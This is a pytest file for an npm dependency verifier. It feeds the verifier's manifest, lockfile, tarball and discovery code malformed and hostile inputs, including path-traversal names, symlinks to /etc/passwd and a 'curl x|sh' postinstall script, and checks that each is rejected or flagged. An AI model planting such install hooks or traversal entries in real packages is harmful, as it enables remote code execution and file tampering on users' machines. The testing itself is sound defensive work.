"""deps:npm parsers on well-formed, truncated, malformed and hostile input: package.json,
lockfiles (npm v1-v3, yarn v1), published tarballs, and the discovery of package folders."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import tarfile
from pathlib import Path

import pytest

from verifier.errors import MalformedInputError
from verifier.model import BinaryFacts, Blob, FileEntry, FileResult, Status
from verifier.npmdeps import discover as disc_mod
from verifier.npmdeps import tarball as tar_mod
from verifier.npmdeps.discover import _roots, discover, split_tree
from verifier.npmdeps.lockfile import (
    Lockfiles,
    parse_sri,
    read_npm_lockfile,
    read_yarn_lockfile,
)
from verifier.npmdeps.manifest import (
    MAX_MANIFEST_BYTES,
    compare_manifests,
    identity,
    parse_manifest,
)
from verifier.npmdeps.tarball import read_tarball


def sri(data: bytes, alg: str = "sha512") -> str:
    return f"{alg}-" + base64.b64encode(hashlib.new(alg, data).digest()).decode()


# --- package.json -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"[" * 200_000, "nested too deeply"),
        (b'{"a":' * 100_000, "nested too deeply"),
        (b'{"name": "x", ', "not valid JSON"),
        (b"[1, 2]", "not a JSON object"),
        (b'{"name": "\xff\xfe"}', "not UTF-8"),
        (b" " * (MAX_MANIFEST_BYTES + 1), "larger than"),
        (b"", "not valid JSON"),
    ],
)
def test_hostile_manifests_are_malformed(data: bytes, why: str) -> None:
    with pytest.raises(MalformedInputError, match=why):
        parse_manifest(data, "x/package.json")


def test_manifest_with_bom_and_identity() -> None:
    doc = parse_manifest(b'\xef\xbb\xbf{"name": "@s/a", "version": "1.0.0"}', "p")
    assert identity(doc) == ("@s/a", "1.0.0")
    assert "no string" in str(identity({"name": 1, "version": "1.0.0"}))
    assert "no string" in str(identity({"name": "a"}))
    for bad in ("../../etc/passwd", "a/b/c", "@s/..", "a\\b", "", "@s/", ".hidden", "A b"):
        assert isinstance(identity({"name": bad, "version": "1.0.0"}), str), bad
    for bad in ("1.0.0/../x", "", "1 0", "-1"):
        assert isinstance(identity({"name": "a", "version": bad}), str), bad


PUBLISHED = {
    "name": "bufferutil",
    "version": "4.0.8",
    "main": "index.js",
    "scripts": {"test": "node_modules/.bin/mocha"},
    "keywords": ["bufferutil"],
    "repository": {"type": "git", "url": "https://github.com/websockets/bufferutil"},
    "bin": "./cli.js",
    "devDependencies": {"mocha": "^10.0.0"},
    "gypfile": True,
}


def test_manifest_compare_allows_what_packagers_and_npm_change() -> None:
    stripped = {
        k: v for k, v in PUBLISHED.items() if k not in ("scripts", "keywords", "devDependencies")
    }
    d = compare_manifests(stripped, PUBLISHED, has_binding_gyp=True)
    assert not d.divergent and set(d.tolerated) == {"scripts", "keywords", "devDependencies"}
    npm6 = {
        **PUBLISHED,
        "_from": "bufferutil@^4",
        "_integrity": "sha512-x",
        "bundleDependencies": False,
        "deprecated": False,
        "repository": {"type": "git", "url": "git+https://github.com/websockets/bufferutil.git"},
        "bin": {"bufferutil": "cli.js"},
        "scripts": {"test": "mocha", "install": "node-gyp rebuild"},  # as npm 6 wrote it
        "gypfile": False,
    }
    d = compare_manifests(npm6, PUBLISHED, has_binding_gyp=True)
    assert not d.divergent, d
    # without a binding.gyp npm adds no install script: one that appears is a divergence
    d = compare_manifests(npm6, PUBLISHED, has_binding_gyp=False)
    assert d.changed == ("scripts",)


@pytest.mark.parametrize(
    ("change", "field", "key"),
    [
        ({"main": "evil.js"}, "changed", "main"),
        ({"exports": {".": "./evil.js"}}, "added", "exports"),
        ({"type": "module"}, "added", "type"),
        ({"main": None}, "removed", "main"),
        ({"scripts": {"postinstall": "curl x|sh"}}, "changed", "scripts"),
        ({"gypfile": 1, "bin": {"other": "cli.js"}}, "changed", "bin"),
    ],
)
def test_manifest_compare_flags_what_changes_behaviour(
    change: dict[str, object], field: str, key: str
) -> None:
    shipped = dict(PUBLISHED)
    for k, v in change.items():
        if v is None:
            shipped.pop(k)
        else:
            shipped[k] = v
    d = compare_manifests(shipped, PUBLISHED, has_binding_gyp=True)
    assert d.divergent and key in getattr(d, field) and key in d.describe()


def test_manifest_compare_is_type_strict() -> None:
    pub = {"name": "a", "version": "1.0.0", "private": 1}
    d = compare_manifests({**pub, "private": True}, pub, has_binding_gyp=False)
    assert d.changed == ("private",)


# --- lockfiles ------------------------------------------------------------------------------

A, B = b"tarball a", b"tarball b"


def test_package_lock_v1_v2_v3() -> None:
    v1 = {
        "lockfileVersion": 1,
        "dependencies": {
            "debug": {
                "version": "4.3.4",
                "integrity": sri(A),
                "dependencies": {"ms": {"version": "2.1.2", "integrity": sri(B, "sha1")}},
            },
            "local": {"version": "file:../local"},
            "bundled": {"version": "1.0.0", "integrity": sri(A), "bundled": True},
            "../evil": {"version": "1.0.0", "integrity": sri(A)},
            "odd": "not an object",
        },
    }
    lf = Lockfiles()
    read_npm_lockfile(json.dumps(v1).encode(), "app/package-lock.json", lf)
    assert [e.version for e in lf.lookup("node_modules/debug", "debug", "4.3.4")] == ["4.3.4"]
    ms = lf.lookup("node_modules/debug/node_modules/ms", "ms", "2.1.2")
    assert ms[0].hashes == (("sha1", hashlib.sha1(B).hexdigest()),)
    assert lf.lookup("node_modules/ms", "ms", "2.1.2") == []
    assert not lf.lookup("node_modules/bundled", "bundled", "1.0.0")
    assert not lf.lookup("node_modules/debug", "debug", "4.3.5")  # another version
    v3 = {
        "lockfileVersion": 3,
        "packages": {
            "": {"name": "app"},
            "node_modules/a": {"version": "1.0.0", "integrity": f"{sri(A)} {sri(A, 'sha1')}"},
            "node_modules/alias": {"name": "real", "version": "2.0.0", "integrity": sri(B)},
            "node_modules/w": {"resolved": "packages/w", "link": True},
            "packages/w/node_modules/c": {"version": "1.0.0", "integrity": sri(B)},
            "node_modules/b": {"version": "1.0.0", "integrity": "sha512-!!!not-base64"},
        },
    }
    lf = Lockfiles()
    read_npm_lockfile(json.dumps(v3).encode(), "package-lock.json", lf)
    (a,) = lf.lookup("node_modules/a", "a", "1.0.0")
    assert [alg for alg, _ in a.hashes] == ["sha512", "sha1"]
    assert lf.lookup("node_modules/alias", "real", "2.0.0")
    assert not lf.lookup("node_modules/alias", "alias", "2.0.0")
    assert lf.lookup("packages/w/node_modules/c", "c", "1.0.0")
    assert not lf.lookup("node_modules/b", "b", "1.0.0")  # an unreadable hash proves nothing


YARN = """# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.
# yarn lockfile v1


"@types/ms@*", "@types/ms@^0.7.34":
  version "0.7.34"
  resolved "https://registry.yarnpkg.com/@types/ms/-/ms-0.7.34.tgz#10964ba0dee6ac4cd462e2795b6bebd407303433"
  integrity {integ}

ms@2.1.2:
  version "2.1.2"
  resolved "https://registry.yarnpkg.com/ms/-/ms-2.1.2.tgz#d09d1f357b443f493382a8eb3ccd183872ae6009"

ms@npm:other@^1:
  version "1.0.0"
  integrity {integ}
"""


def test_yarn_v1_lockfile() -> None:
    lf = Lockfiles()
    read_yarn_lockfile(YARN.replace("{integ}", sri(A)).encode(), "yarn.lock", lf)
    (t,) = lf.lookup("node_modules/@types/ms", "@types/ms", "0.7.34")
    assert dict(t.hashes) == {
        "sha512": hashlib.sha512(A).hexdigest(),
        "sha1": "10964ba0dee6ac4cd462e2795b6bebd407303433",
    }
    (m,) = lf.lookup("anything", "ms", "2.1.2")
    assert m.hashes == (("sha1", "d09d1f357b443f493382a8eb3ccd183872ae6009"),)
    assert not lf.lookup("x", "ms@npm:other", "1.0.0")
    berry = Lockfiles()
    read_yarn_lockfile(b'__metadata:\n  version: 6\n\n"ms@npm:2.1.2":\n', "yarn.lock", berry)
    assert not berry.by_name_version and "Berry" in berry.notes[0]


@pytest.mark.parametrize(
    ("reader", "data", "why"),
    [
        (read_npm_lockfile, b"[" * 100_000, "nested too deeply"),
        (read_npm_lockfile, b'{"packages": ', "not valid JSON"),
        (read_npm_lockfile, b'"a string"', "not a JSON object"),
        (read_npm_lockfile, b"\xff{}", "not UTF-8"),
        (read_yarn_lockfile, b"garbage without a colon\n", "not a yarn v1 lockfile"),
        (read_yarn_lockfile, b"a@1:\n  version \xff\n", "not UTF-8"),
    ],
)
def test_hostile_lockfiles(reader: object, data: bytes, why: str) -> None:
    with pytest.raises(MalformedInputError, match=why):
        reader(data, "lock", Lockfiles())  # type: ignore[operator]


def test_oversized_lockfile(monkeypatch: pytest.MonkeyPatch) -> None:
    from verifier.npmdeps import lockfile

    monkeypatch.setattr(lockfile, "MAX_LOCKFILE_BYTES", 10)
    with pytest.raises(MalformedInputError, match="larger than"):
        read_npm_lockfile(b"{" + b" " * 20 + b"}", "lock", Lockfiles())


def test_sri_parsing() -> None:
    assert parse_sri(f"{sri(A)}?opt {sri(A, 'sha384')} md5-xxxx") == (
        ("sha512", hashlib.sha512(A).hexdigest()),
        ("sha384", hashlib.sha384(A).hexdigest()),
    )
    assert parse_sri("sha512-" + base64.b64encode(b"short").decode()) == ()
    assert parse_sri(None) == () and parse_sri("x" * 5000) == ()


# --- tarballs -------------------------------------------------------------------------------


def make_tgz(members: list[tuple[str, bytes | None, str]], gz: bool = True) -> bytes:
    """members: (name, data, kind) where kind is 'file', 'dir', 'sym' or 'hard'."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz" if gz else "w") as tf:
        for name, data, kind in members:
            info = tarfile.TarInfo(name)
            if kind == "dir":
                info.type = tarfile.DIRTYPE
                tf.addfile(info)
            elif kind in ("sym", "hard"):
                info.type = tarfile.SYMTYPE if kind == "sym" else tarfile.LNKTYPE
                info.linkname = "../../etc/passwd"
                tf.addfile(info)
            else:
                assert data is not None
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def read(tmp_path: Path, data: bytes) -> tuple[tar_mod.Published, tar_mod.TarDigests]:
    p = tmp_path / "t.tgz"
    p.write_bytes(data)
    return read_tarball(str(p), "t.tgz", str(tmp_path / "work"), None)


def test_tarball_members_as_npm_installs_them(tmp_path: Path) -> None:
    manifest = json.dumps(
        {
            "name": "x",
            "version": "1.0.0",
            "binary": {"module_name": "x_native", "module_path": "./lib/binding/{platform}-{arch}"},
        }
    ).encode()
    data = make_tgz(
        [
            ("ms/", None, "dir"),
            ("ms/package.json", manifest, "file"),
            ("ms/index.js", b"old", "file"),
            ("ms/index.js", b"new", "file"),
            ("ms/../../evil.js", b"x", "file"),
            ("ms/link", None, "sym"),
            ("ms/hard", None, "hard"),
            ("ms/bin/cli.js", b"#!/usr/bin/env node\r\nrun()\r\n", "file"),
            ("ms/binding.gyp", b"{'targets': [{'target_name': 'x_native'}]}", "file"),
            ("./ms/./lib//a.js", b"a", "file"),
        ]
    )
    pub, dig = read(tmp_path, data)
    assert sorted(pub.files) == [
        "bin/cli.js",
        "binding.gyp",
        "index.js",
        "lib/a.js",
        "package.json",
    ]
    assert pub.files["index.js"].sha256 == hashlib.sha256(b"new").hexdigest()  # tar: last wins
    assert pub.manifest is not None and pub.manifest["name"] == "x"
    assert any("'..'" in n for n in pub.notes) and any("link" in n for n in pub.notes)
    assert (
        pub.alt_sha256["bin/cli.js"]
        == hashlib.sha256(b"#!/usr/bin/env node\nrun()\r\n").hexdigest()
    )
    assert dig.sha512 == hashlib.sha512(data).hexdigest() and dig.size == len(data)
    assert pub.gyp_targets == ("x_native",)
    assert pub.install_built("build/Release/x_native.node")
    assert pub.install_built("lib/binding/linux-x64/x_native.node")
    assert pub.install_built("build/Release/other.node") is None
    assert pub.install_built("lib/binding/linux-x64/../x_native.node") is None
    assert pub.install_built("build/Release/x_native.js") is None
    again = tar_mod.Published.from_doc(json.loads(json.dumps(pub.to_doc())), "t.tgz")
    assert again.files["index.js"].sha256 == pub.files["index.js"].sha256
    assert again.install_built("build/Release/x_native.node")


def test_plain_tar_and_native_member(tmp_path: Path) -> None:
    from verifier._scenarios import pewriter

    pe = pewriter.build_pe(pewriter.ffmpeg_dll())
    pub, _ = read(tmp_path, make_tgz([("package/a.node", pe, "file")], gz=False))
    e = pub.files["a.node"]
    assert e.format.value == "pe" and e.facts.normalized_sha256 is not None
    assert not list((tmp_path / "work").iterdir())  # the spooled member is removed


@pytest.mark.parametrize(
    "data",
    [
        b"not a tarball at all",
        make_tgz([("package/a.js", b"x" * 5000, "file")])[:40],  # truncated gzip
        b"\x1f\x8b\x08\x00" + b"\x00" * 100,  # a gzip header and garbage
    ],
    ids=["not-a-tarball", "truncated-gzip", "gzip-garbage"],
)
def test_unreadable_tarballs(tmp_path: Path, data: bytes) -> None:
    with pytest.raises(MalformedInputError):
        read(tmp_path, data)


def test_tarball_caps(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tar_mod, "MAX_MEMBERS", 3)
    many = make_tgz([(f"package/{i}.js", b"x", "file") for i in range(5)])
    with pytest.raises(MalformedInputError, match="more than 3 members"):
        read(tmp_path, many)
    monkeypatch.setattr(tar_mod, "MAX_MEMBER_BYTES", 10)
    with pytest.raises(MalformedInputError, match="bytes"):
        read(tmp_path, make_tgz([("package/a.js", b"x" * 11, "file")]))


# --- discovery ------------------------------------------------------------------------------


def test_trees_and_package_positions() -> None:
    assert split_tree("resources/app.asar/node_modules/a/x.js") == (
        "resources/app.asar",
        "node_modules/a/x.js",
    )
    assert split_tree("resources/app.asar.unpacked/node_modules/a/b.node") == (
        "resources/app.asar",
        "node_modules/a/b.node",
    )
    assert split_tree("A.app/Contents/Resources/app/node_modules/a/x.js") == (
        "A.app/Contents/Resources/app",
        "node_modules/a/x.js",
    )
    assert split_tree("x/Resources/app-arm64.asar/package-lock.json")[0].endswith("arm64.asar")  # type: ignore[index]
    assert split_tree("node_modules/a/index.js") == ("", "node_modules/a/index.js")
    assert split_tree("resources/other/node_modules/a/index.js") is None
    assert split_tree("resources/default_app.asar/main.js") is None
    assert _roots("node_modules/a/node_modules/@s/b/lib/x.js") == [
        ("node_modules/a", False),
        ("node_modules/a/node_modules/@s/b", False),
    ]
    assert _roots("node_modules/.bin/x") == [("node_modules/.bin", True)]
    assert _roots("node_modules/@s/file.js") == [("node_modules/@s", True)]
    assert _roots("node_modules/.package-lock.json") == [("node_modules", True)]


def results_for(root: Path, files: dict[str, bytes]) -> list[FileResult]:
    out = []
    for rel, data in sorted(files.items()):
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        sha = hashlib.sha256(data).hexdigest()
        e = FileEntry(rel, rel, (), len(data), sha, BinaryFacts(), Blob.of_file(p))
        out.append(FileResult(rel, Status.OWN, e, None))
    return out


def pj(name: object, version: object = "1.0.0") -> bytes:
    return json.dumps({"name": name, "version": version}).encode()


def test_discover_packages_nesting_loose_and_hostile(tmp_path: Path) -> None:
    t = "resources/app.asar/"
    u = "resources/app.asar.unpacked/"
    files = {
        t + "package.json": pj("app"),
        t + "package-lock.json": json.dumps(
            {
                "lockfileVersion": 3,
                "packages": {"node_modules/a": {"version": "1.0.0", "integrity": sri(A)}},
            }
        ).encode(),
        t + "node_modules/a/package.json": pj("a"),
        t + "node_modules/a/index.js": b"a",
        u + "node_modules/a/build/Release/a.node": b"native",
        t + "node_modules/a/node_modules/@s/b/package.json": pj("@s/b", "2.0.0"),
        t + "node_modules/a/node_modules/@s/b/x.js": b"b",
        t + "node_modules/a/node_modules/loose/index.js": b"loose inside a",
        t + "node_modules/.bin/a": b"shim",
        t + "node_modules/.package-lock.json": b"{}",
        t + "node_modules/loose/index.js": b"no package.json",
        t + "node_modules/bad-json/package.json": b"\xff\xfe",
        t + "node_modules/bad-name/package.json": pj("../../../etc"),
        t + "node_modules/no-version/package.json": pj("no-version", 7),
        t + "node_modules/deep/package.json": b"[" * 50_000,
        "resources/elsewhere/node_modules/z/package.json": pj("z"),
    }
    results = results_for(tmp_path, files)
    d = discover(results)
    by = {p.install_path: p for p in d.packages}
    assert set(by) == {
        "node_modules/a",
        "node_modules/a/node_modules/@s/b",
        "node_modules/bad-json",
        "node_modules/bad-name",
        "node_modules/no-version",
        "node_modules/deep",
    }
    a, b = by["node_modules/a"], by["node_modules/a/node_modules/@s/b"]
    assert (a.name, a.version, a.depth, b.parent, b.depth) == ("a", "1.0.0", 0, a.index, 1)
    assert [rel for rel, _ in a.files] == [
        "build/Release/a.node",
        "index.js",
        "node_modules/loose/index.js",
        "package.json",
    ]
    assert [rel for rel, _ in b.files] == ["package.json", "x.js"]
    assert (
        by["node_modules/bad-json"].malformed and "UTF-8" in by["node_modules/bad-json"].malformed
    )
    assert by["node_modules/deep"].malformed and "deeply" in by["node_modules/deep"].malformed
    assert "not a valid npm package name" in str(by["node_modules/bad-name"].problem)
    assert "no string" in str(by["node_modules/no-version"].problem)
    assert [(x.where, len(x.results)) for x in d.loose] == [
        ("resources/app.asar/node_modules/loose", 1)
    ]
    assert [e.key for e in d.lock_entries(a)] == ["node_modules/a"]


def test_discover_cap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(disc_mod, "MAX_PACKAGES", 2)
    files = {f"node_modules/p{i}/package.json": pj(f"p{i}") for i in range(4)}
    d = discover(results_for(tmp_path, files))
    assert len(d.packages) == 2 and "only the first 2" in d.notes[0]
